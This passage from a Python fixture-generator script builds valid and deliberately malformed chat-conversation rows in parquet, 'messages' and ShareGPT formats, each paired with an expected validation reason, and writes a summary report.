        [("system", "You are a concise assistant."), ("user", "Capital of Japan?"), ("assistant", "Tokyo.")],
    )
    add(
        Invalid.EMPTY_USER_MESSAGE,
        "user content is the empty string",
        key("empty-user"),
        [("user", ""), ("assistant", "It looks like your message was empty. What would you like to ask?")],
    )
    add(
        Invalid.EMPTY_USER_MESSAGE,
        "user content is whitespace only",
        key("blank-user"),
        [("user", "  \n\t "), ("assistant", "Did you mean to send something?")],
    )
    add(
        Invalid.EMPTY_USER_MESSAGE,
        "the second user message is empty",
        key("empty-second-user"),
        [
            ("user", "Recommend a sci-fi book."),
            ("assistant", "Try 'The Left Hand of Darkness'."),
            ("user", ""),
            ("assistant", "Anything else?"),
        ],
    )
    add(
        None,
        "valid edge: the user message is a single emoji",
        key("emoji-only"),
        [("user", "🤔"), ("assistant", "Looks like you're thinking about something! What's on your mind?")],
    )
    add(
        Invalid.NON_STRING_CONTENT,
        "user content is null",
        key("null-user"),
        [("user", None), ("assistant", "Hello?")],
    )
    add(
        Invalid.NON_STRING_CONTENT,
        "the second user message's content is null",
        key("null-second-user"),
        [("user", "Hi!"), ("assistant", "Hello! How can I help?"), ("user", None), ("assistant", "...")],
    )
    add(
        Invalid.NON_STRING_CONTENT,
        "an assistant message's content is null",
        key("null-assistant"),
        [("user", "What's 7 times 8?"), ("assistant", None)],
    )
    many = []
    for i in range(601):
        many.append(("user", f"Question {i + 1}: what is {i} + {i}?"))
        many.append(("assistant", f"{i} + {i} = {2 * i}."))
    add(Invalid.TOO_LONG, f"{len(many)} messages (more than 1000)", key("many-messages"), many)
    chunk = "All work and no play makes a very long prompt. " * 10_000
    huge = [
        ("user", chunk),
        ("assistant", "That is a lot of repeated text."),
        ("user", chunk + chunk),
        ("assistant", "Still the same sentence."),
    ]
    total = sum(len(content) for _, content in huge)
    add(Invalid.TOO_LONG, f"{total} characters in total (more than 1,000,000)", key("many-chars"), huge)
    add(
        None,
        "valid edge: an empty assistant answer is fine",
        key("empty-assistant"),
        [("user", "Write nothing."), ("assistant", ""), ("user", "ok, now write 'hi'"), ("assistant", "hi")],
    )
    add(
        Invalid.DUPLICATE_HASH,
        "reuses the hash of row 0",
        first_valid,
        [("user", "How long should I boil an egg?"), ("assistant", "About 8 minutes for a firm yolk.")],
    )
    add(
        Invalid.NO_USER_TURN,
        "only a leading system message",
        key("system-only"),
        [("system", "You are a helpful assistant.")],
    )
    add(
        None,
        "valid edge: Chinese conversation with a mixed-language second turn",
        key("mixed-language"),
        [
            ("user", "你好"),
            ("assistant", "你好！有什么可以帮你的？"),
            ("user", "Can you answer in English?"),
            ("assistant", "Of course! How can I help?"),
        ],
        language="Chinese",
    )
    return rows, expected


# ---------------------------------------------------------------------------
# JSONL rows in the "messages" and ShareGPT shapes
# ---------------------------------------------------------------------------


def build_malformed_messages() -> tuple[list[dict[str, Any]], list[Expected]]:
    """Rows in the common ``messages`` shape, valid and invalid, with the expected reason of each."""
    cases: list[tuple[dict[str, Any], Invalid | None, str]] = []

    def case(row: dict[str, Any], reason: Invalid | None, why: str) -> None:
        cases.append((row, reason, why))

    def ident(n: int) -> str:
        return f"mm-{n:04d}"

    def msg(role: str, content: Any) -> dict[str, Any]:
        return {"role": role, "content": content}

    case(
        {
            "id": ident(0),
            "messages": [
                msg("user", "What's a good name for a goldfish?"),
                msg("assistant", "How about Bubbles, Finn or Captain Nemo?"),
            ],
        },
        None,
        "ordinary valid row",
    )
    case(
        {
            "id": ident(1),
            "messages": [
                msg("system", "You answer in one sentence."),
                msg("user", "Why is the sea salty?"),
                msg(
                    "assistant",
                    "Rivers carry dissolved minerals into it, and evaporation leaves the salt behind.",
                ),
            ],
        },
        None,
        "valid: leading system message",
    )
    case(
        {
            "id": ident(2),
            "messages": [
                msg(
                    "user",
                    [
                        {"type": "text", "text": "Describe this picture"},
                        {"type": "image_url", "image_url": {"url": "https://example.com/cat.jpg"}},
                    ],
                ),
                msg("assistant", "A grey cat asleep on a windowsill."),
            ],
        },
        Invalid.NON_STRING_CONTENT,
        "user content is a list of content parts (multimodal)",
    )
    case(
        {"id": ident(3), "messages": [msg("user", "Say hi"), msg("assistant", ["Hi", "there"])]},
        Invalid.NON_STRING_CONTENT,
        "assistant content is a list of strings",
    )
    case(
        {"id": ident(4), "messages": [msg("user", None), msg("assistant", "Hello?")]},
        Invalid.NON_STRING_CONTENT,
        "user content is null",
    )
    case(
        {"id": ident(5), "messages": [msg("user", 42), msg("assistant", "42 is a fine number.")]},
        Invalid.NON_STRING_CONTENT,
        "user content is an integer",
    )
    case(
        {"id": ident(6), "dialogue": [msg("user", "hi"), msg("assistant", "hello")]},
        Invalid.UNMAPPABLE_ROW,
        "no 'messages' key",
    )
    case(
        {"id": ident(7), "messages": "user: hi\nassistant: hello"},
        Invalid.UNMAPPABLE_ROW,
        "'messages' is a string, not a list",
    )
    case(
        {"id": ident(8), "messages": {"role": "user", "content": "hi"}},
        Invalid.UNMAPPABLE_ROW,
        "'messages' is an object, not a list",
    )
    case(
        {"id": ident(9), "messages": [{"content": "hi"}, msg("assistant", "hello")]},
        Invalid.UNMAPPABLE_ROW,
        "a message has no 'role'",
    )
    case(
        {"id": ident(10), "messages": ["hi", "hello"]},
        Invalid.UNMAPPABLE_ROW,
        "messages are strings, not objects",
    )
    case(
        {
            "id": ident(11),
            "messages": [
                msg("user", "Tell me a fun fact."),
                msg("assistant", "Octopuses have three hearts."),
                msg("user", "another one"),
            ],
        },
        None,
        "valid: ends on a user message",
    )
    case(
        {
            "id": ident(12),
            "messages": [msg("user", "ما هي عاصمة المغرب؟ 🇲🇦"), msg("assistant", "عاصمة المغرب هي الرباط.")],
        },
        None,
        "valid: Arabic with an emoji flag",
    )
    case({"id": ident(13), "messages": []}, Invalid.NO_USER_TURN, "empty messages list")
    case(
        {"id": ident(14), "messages": [msg("assistant", "Hello!"), msg("user", "hi")]},
        Invalid.ROLES_OUT_OF_ORDER,
        "assistant speaks first",
    )
    case(
        {"id": ident(15), "messages": [msg("user", "   "), msg("assistant", "Yes?")]},
        Invalid.EMPTY_USER_MESSAGE,
        "user content is whitespace only",
    )
    case(
        {
            "id": ident(16),
            "messages": [
                msg("user", "Что такое фотосинтез?"),
                msg("assistant", "Это процесс, при котором растения превращают свет в энергию."),
                msg("user", "А кратко?"),
                msg("assistant", "Свет → сахар + кислород."),
            ],
        },
        None,
        "valid: Russian, two turns",
    )
    rows = [row for row, _, _ in cases]
    expected = [
        {"row": i, "reason": None if reason is None else reason.value, "why": why}
        for i, (_, reason, why) in enumerate(cases)
    ]
    return rows, expected


SHAPE_LANGUAGES: tuple[str, ...] = (
    "English",
    "English",
    "English",
    "English",
    "English",
    "English",
    "Chinese",
    "Chinese",
    "Chinese",
    "Russian",
    "Russian",
    "Spanish",
    "French",
    "German",
    "Japanese",
    "Portuguese",
    "Arabic",
    "Korean",
    "Italian",
    "Turkish",
)
SYSTEM_PROMPTS: tuple[str, ...] = (
    "You are a helpful assistant.",
    "You are a friendly tutor. Keep answers short.",
    "You are an expert software engineer.",
)


def build_shape_rows(shape: str) -> list[dict[str, Any]]:
    """Valid conversations in the ShareGPT (``shape='sharegpt'``) or ``messages`` shape."""
    rows: list[dict[str, Any]] = []
    for i, language in enumerate(SHAPE_LANGUAGES):
        rng = random.Random(f"{SEED}:{shape}:{i}")
        kind = "code" if i % 4 == 1 else "chat"
        plan = Plan(language, kind, rng.choice((1, 1, 2, 2, 3)))
        turns = compose_turns(plan, rng)
        messages: list[tuple[str, str]] = []
        if i < len(SYSTEM_PROMPTS):
            messages.append(("system", SYSTEM_PROMPTS[i]))
        for turn in turns:
            messages.extend((("user", turn.user), ("assistant", turn.answer)))
        if i == len(SHAPE_LANGUAGES) - 1:
            messages.pop()
        if shape == "sharegpt":
            names = {"system": "system", "user": "human", "assistant": "gpt"}
            rows.append(
                {
                    "id": f"sharegpt-{i + 1:05d}",
                    "conversations": [{"from": names[role], "value": text} for role, text in messages],
                }
            )
        else:
            rows.append(
                {
                    "id": f"msg-{i + 1:05d}",
                    "messages": [{"role": role, "content": text} for role, text in messages],
                }
            )
    return rows


# ---------------------------------------------------------------------------
# Writing and reporting
# ---------------------------------------------------------------------------


def write_parquet(rows: list[dict[str, Any]], path: Path) -> pa.Table:
    """Write rows in exactly ``WILDCHAT_SCHEMA``, zstd-compressed."""
    table = pa.Table.from_pylist(rows, schema=WILDCHAT_SCHEMA)
    assert table.schema.equals(WILDCHAT_SCHEMA)
    pq.write_table(table, path, compression="zstd", compression_level=19)
    return table


def write_json(data: Any, path: Path) -> None:
    """Pretty JSON, UTF-8, with a final newline."""
    path.write_text(json.dumps(data, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")


def write_jsonl(rows: Sequence[dict[str, Any]], path: Path) -> None:
    """One JSON object per line, UTF-8."""
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")


def summarize(rows: Sequence[dict[str, Any]]) -> dict[str, Any]:
    """Counts worth checking at a glance."""
    chars = [sum(len(m["content"]) for m in row["conversation"]) for row in rows]
    message_languages: Counter[str] = Counter()
    for row in rows:
        message_languages.update(m["language"] for m in row["conversation"])
    return {
        "rows": len(rows),
        "languages": dict(Counter(row["language"] for row in rows).most_common()),
        "message_languages": dict(message_languages.most_common()),
        "mixed_language_rows": sum(
            1 for row in rows if len({m["language"] for m in row["conversation"]}) > 1
        ),
        "turns": dict(sorted(Counter(row["turn"] for row in rows).items())),
        "toxic": sum(row["toxic"] for row in rows),
        "redacted": sum(row["redacted"] for row in rows),
        "ends_on_user": sum(1 for row in rows if row["conversation"][-1]["role"] == "user"),
        "empty_assistant_messages": sum(
            1 for row in rows for m in row["conversation"] if m["role"] == "assistant" and not m["content"]
        ),
        "rows_over_20k_chars": sorted(c for c in chars if c > 20_000),
        "models": dict(sorted(Counter(row["model"] for row in rows).items())),
        "with_code_fence": sum(1 for row in rows if any("```" in m["content"] for m in row["conversation"])),
        "with_script_tag": sum(
            1 for row in rows if any("<script" in m["content"] for m in row["conversation"])
        ),
    }


def main(argv: Sequence[str] | None = None) -> int:
    """Write every sample file into ``--out`` (the package's sample folder by default)."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument(
        "--out", type=Path, default=DEFAULT_OUT, help="folder to write into (default: %(default)s)"
    )
    args = parser.parse_args(argv)
    out: Path = args.out
    out.mkdir(parents=True, exist_ok=True)

    sample = build_sample()
    write_parquet(sample, out / "wildchat_sample.parquet")
    malformed, malformed_expected = build_malformed()
    write_parquet(malformed, out / "malformed.parquet")
    write_json(malformed_expected, out / "malformed_expected.json")
    messages_rows, messages_expected = build_malformed_messages()
    write_jsonl(messages_rows, out / "malformed_messages.jsonl")
    write_json(messages_expected, out / "malformed_messages_expected.json")
    write_jsonl(build_shape_rows("sharegpt"), out / "sharegpt_sample.jsonl")
    write_jsonl(build_shape_rows("messages"), out / "messages_sample.jsonl")

    report = {
        "sample": summarize(sample),
        "malformed_reasons": dict(Counter(str(e["reason"]) for e in malformed_expected)),
        "malformed_messages_reasons": dict(Counter(str(e["reason"]) for e in messages_expected)),
        "files": {
            p.name: p.stat().st_size
            for p in sorted(out.iterdir())
            if p.suffix in (".parquet", ".json", ".jsonl")
        },
    }
    print(json.dumps(report, ensure_ascii=False, indent=2))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
